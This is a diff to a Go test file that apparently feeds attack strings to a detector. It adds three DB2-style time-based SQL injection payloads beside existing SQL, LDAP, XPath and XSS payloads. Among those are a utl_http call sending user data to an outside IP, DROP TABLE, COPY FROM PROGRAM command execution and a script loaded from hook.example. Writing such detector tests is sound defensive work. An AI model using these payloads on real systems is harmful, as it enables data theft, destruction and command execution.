@@ -21,6 +21,7 @@ func TestTechniques(t *testing.T) {
 			"1'||utl_http.request('http://192.0.2.1/'||user)||'", "1' group by 1,2,3,4-- -", "1'; update users set password='x' where id=1--", "1; DROP TABLE users",
 			"x','y','z');-- ", "x'||(SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE '' END FROM dual)||'", "1'^(select 1)^'1", "1;COPY cmd_exec FROM PROGRAM 'id';--",
 			"qwert')) UNION SELECT id, email, password FROM Users--", "1' and password regexp '^a'#", "*)(uid=*))(|(uid=*", "admin)(&)", "'] | //user/*[contains(*,'", "1 and 1=2",
+			"1 AND 3710=(SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1)", "1) AND 'xncm'=REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(6456),0),5000000000),NULL)", "1);CALL REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY('AES',NULL),0),500000000),NULL)--",
 		},
 		Scripting: {
 			"<script>console.log(document.domain)</script>", "<script src=//hook.example/h.js></script>", "<img/src/onerror=alert`1`>", "<svg><animate onbegin=alert(1) attributeName=x>",
